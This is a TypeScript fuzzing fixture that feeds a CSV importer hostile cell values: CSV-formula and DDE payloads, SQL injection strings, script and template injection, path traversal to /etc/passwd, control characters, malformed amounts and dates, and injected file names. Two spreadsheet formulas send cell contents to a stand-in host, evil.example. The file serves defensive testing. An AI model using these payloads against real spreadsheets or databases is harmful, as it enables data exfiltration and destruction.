/**
 * Hostile values for the importer fuzzer: formula and SQL-looking text, control characters,
 * amounts and dates out of range, CSV-breaking characters, and random Unicode.
 */
import fc from 'fast-check';

/** Formula (CSV injection) and SQL-looking text: when a row carrying one is accepted, the text must be stored verbatim. */
export const FORMULA_SQL: readonly string[] = [
  "=cmd|' /C calc'!A0",
  "'; DROP TABLE usage_records;--",
  "Robert'); DROP TABLE incidents;--",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "' OR '1'='1",
  '" OR ""="',
  "1; ATTACH DATABASE '/tmp/x.db' AS x;--",
  "' UNION SELECT sql FROM sqlite_master --",
  '<script>alert(document.cookie)</script>',
  '${7*7}{{7*7}}#{7*7}',
  '../../../../etc/passwd',
  '%s%s%n%x',
  'DDE ("cmd";"/C calc";"!A0")A0',
  '=1+1',
  '\t=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
];

/** Control and format characters, alone and inside text. */
export const CONTROL: readonly string[] = [
  '\u0000',
  'a\u0000b',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u0007\u0008\u000b\u000c',
  '\u007f',
  'line\u2028sep\u2029para',
  '\u202eevil\u202c',
  '\u200b\u200c\u200d',
  '\ufeffbom-inside',
  '\ufffe\uffff',
  '\u0085next-line',
  'é\u0301\u0301\u0301',
  '🔑💸\u{1f600}',
  'ＡＰＩ－ＫＥＹ',
];

/** Amount-like text that is out of range, non-finite or malformed. */
export const AMOUNTS: readonly string[] = [
  '1e400',
  '-1e400',
  '1e-400',
  '-0',
  '-0.0',
  '+0',
  'NaN',
  '-NaN',
  'Infinity',
  '-Infinity',
  '1' + '0'.repeat(39),
  '-9' + '9'.repeat(39),
  '9'.repeat(40) + '.' + '9'.repeat(40),
  '0.' + '0'.repeat(38) + '1',
  '9007199254740993',
  '-9007199254740993',
  '123456789012345678901234567890.123456789',
  '0x1F',
  '0b101',
  '1_000',
  '1,2,3',
  '1..2',
  '--1',
  '+-1',
  '.',
  '-',
  'e',
  '1e',
  '1e+',
  'e10',
  '(5)',
  '((5))',
  '$-1.00',
  '١٢٣',
  '１２３',
  '1 000 000',
  '1\u00a0000',
  '12,34,5',
  '1.7976931348623157e308',
  '4.9e-324',
  '2e53',
];

/** Date-like text that is out of range or malformed. */
export const DATES: readonly string[] = [
  '99999-01-01',
  '99999-12-31T23:59:59Z',
  '+099999-01-01T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '0000-01-01',
  '0000-00-00',
  '1969-12-31T23:59:59Z',
  '9999-12-31T23:59:59Z',
  '2025-02-29',
  '2025-02-30',
  '2025-13-01',
  '2025-00-10',
  '2025-01-01T24:00:00Z',
  '2025-01-01T25:61:61Z',
  '2025-01-01T00:00:00+99:99',
  '2025-01-01T00:00:00-23:59',
  '2025-01-01T00:00:00.' + '9'.repeat(40) + 'Z',
  '31/12/99999',
  '12/31/-1',
  '99999999999',
  '99999999999999',
  '999999999999999999999999999999',
  '253402300800',
  '-1',
  '0',
  '1e10',
  'NaN',
  'Infinity',
  'today',
  '2025-W01-1',
  'Tue, 01 Oct 99999 10:00:00 GMT',
  'Sat, 31 Dec 275760 23:59:59 GMT',
];

/** Characters that break CSV structure. */
const CSV_CHARS = ['"', ',', ';', '\t', '\n', '\r', '\r\n', ' ', 'a', '1', '\u0000', '""', "'", '\\'];

export const csvBreaker: fc.Arbitrary<string> = fc.array(fc.constantFrom(...CSV_CHARS), { minLength: 1, maxLength: 12 }).map((a) => a.join(''));

/** Any code point (not lone surrogates) — and, rarely, lone surrogates, which no encoding carries. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constantFrom('\ud800', 'a\udfffb', '\udbff\udbff') },
);

/** A value a cell may be set to. */
export type CellValue =
  | { k: 'formula'; v: string }
  | { k: 'control'; v: string }
  | { k: 'amount'; v: string }
  | { k: 'date'; v: string }
  | { k: 'csv'; v: string }
  | { k: 'text'; v: string }
  | { k: 'empty'; v: string }
  | { k: 'long'; v: string };

export const cellValue: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...FORMULA_SQL).map((v): CellValue => ({ k: 'formula', v })) },
  { weight: 3, arbitrary: fc.constantFrom(...CONTROL).map((v): CellValue => ({ k: 'control', v })) },
  { weight: 4, arbitrary: fc.constantFrom(...AMOUNTS).map((v): CellValue => ({ k: 'amount', v })) },
  { weight: 4, arbitrary: fc.constantFrom(...DATES).map((v): CellValue => ({ k: 'date', v })) },
  { weight: 3, arbitrary: csvBreaker.map((v): CellValue => ({ k: 'csv', v })) },
  { weight: 3, arbitrary: anyText.map((v): CellValue => ({ k: 'text', v })) },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', 'NULL', 'null', '\t').map((v): CellValue => ({ k: 'empty', v })) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.integer({ min: 1_000, max: 200_000 }), fc.constantFrom('x', '=', '"', ',', '0', 'é', '🔑'))
      .map(([n, ch]): CellValue => ({ k: 'long', v: ch.repeat(Math.ceil(n / ch.length)) })),
  },
);

/** File names as the person chose them (the name is stored with the import and shown in messages). */
export const fileName: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.constant('export.csv') },
  { weight: 1, arbitrary: fc.constantFrom("'; DROP TABLE imports;--.csv", '=cmd|calc.csv', '..\\..\\x.csv', 'a\nb\u0000c.csv', '📄.csv', 'x'.repeat(300) + '.csv') },
);
